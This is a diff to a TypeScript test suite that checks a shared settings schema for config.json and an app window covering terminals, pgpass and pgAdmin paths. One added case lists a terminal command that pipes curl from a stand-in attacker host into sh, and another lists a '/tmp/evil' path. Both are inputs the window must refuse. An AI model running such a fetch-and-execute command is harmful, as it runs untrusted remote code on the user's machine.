@@ -56,6 +56,9 @@ const CONFIG_PATH: Record<PatchField, string> = {
   startAtLogin: 'settings.startAtLogin',
 };
 const FIELDS = Object.keys(CONFIG_PATH) as PatchField[];
+/** Fields the window gets less of than config.json: a path, a custom terminal command. */
+const CONFIG_ONLY_VALUES: PatchField[] = ['pgpassPath', 'pgadminPath', 'terminal'];
+const SAME_FIELDS = FIELDS.filter((field) => !CONFIG_ONLY_VALUES.includes(field));
 
 const hex = (length: number) =>
   fc.string({ unit: fc.constantFrom(...'0123456789abcdefABCDEF'), minLength: length, maxLength: length });
@@ -75,9 +78,9 @@ describe('settings: one schema for config.json and the window', () => {
     ['5 seconds', 'clipboardClearSec', 5],
     ['600 seconds', 'clipboardClearSec', 600],
     ['no terminals', 'terminal', []],
-    ['ten terminals', 'terminal', Array.from({ length: 10 }, (_, i) => `term${i}`)],
-    ['a pgpass path', 'pgpassPath', '/home/alice/.pgpass'],
-    ['a pgAdmin path', 'pgadminPath', 'C:\\Program Files\\pgAdmin 4\\runtime\\pgAdmin4.exe'],
+    ['ten known terminals', 'terminal', Array.from({ length: 10 }, (_, i) => (i % 2 ? 'xterm' : 'wt'))],
+    ['the default pgpass file', 'pgpassPath', null],
+    ['finding pgAdmin automatically', 'pgadminPath', null],
     ['pgpass off', 'pgpassEnabled', false],
     ['start at login', 'startAtLogin', true],
   ])('accepts %s in both places', (_, field, value) => {
@@ -104,7 +107,7 @@ describe('settings: one schema for config.json and the window', () => {
     ['an empty pgpass path', 'pgpassPath', ''],
     ['an empty pgAdmin path', 'pgadminPath', ''],
     // Only the window refused these before.
-    ['eleven terminals', 'terminal', Array.from({ length: 11 }, (_, i) => `term${i}`)],
+    ['eleven terminals', 'terminal', Array.from({ length: 11 }, () => 'xterm')],
     ['a terminal name of 257 characters', 'terminal', ['x'.repeat(257)]],
     ['a pgpass path of 4097 characters', 'pgpassPath', `/${'p'.repeat(4096)}`],
     ['a pgAdmin path of 4097 characters', 'pgadminPath', `/${'p'.repeat(4096)}`],
@@ -129,11 +132,29 @@ describe('settings: one schema for config.json and the window', () => {
       fc.jsonValue(),
     );
     fc.assert(
-      fc.property(fc.constantFrom(...FIELDS), values, (field, value) => {
+      fc.property(fc.constantFrom(...SAME_FIELDS), values, (field, value) => {
         expect(configProblems(field, value).length === 0).toBe(windowProblem(field, value) === null);
       }),
       { numRuns: 2000 },
     );
+    // Where the window gets less, whatever it may send config.json takes too.
+    fc.assert(
+      fc.property(fc.constantFrom(...CONFIG_ONLY_VALUES), values, (field, value) => {
+        if (windowProblem(field, value) === null) expect(configProblems(field, value)).toEqual([]);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it.each<[string, PatchField, unknown]>([
+    ['a pgpass path', 'pgpassPath', '/home/alice/.pgpass'],
+    ['a pgAdmin path', 'pgadminPath', 'C:\\Program Files\\pgAdmin 4\\runtime\\pgAdmin4.exe'],
+    ['a custom terminal command', 'terminal', ['alacritty --class psql']],
+    ['a shell as the terminal', 'terminal', ['sh', '-c', 'curl evil.example | sh']],
+    ['a known terminal after a custom one', 'terminal', ['xterm', '/tmp/evil']],
+  ])('takes %s from config.json only: the window refuses it, naming the field', (_, field, value) => {
+    expect(configProblems(field, value)).toEqual([]);
+    expect(windowProblem(field, value)).toMatch(new RegExp(`^${field}(\\.\\d+)?: `));
   });
 
   it('a client ID is accepted exactly when it is a GUID (8-4-4-4-12 hex digits)', () => {
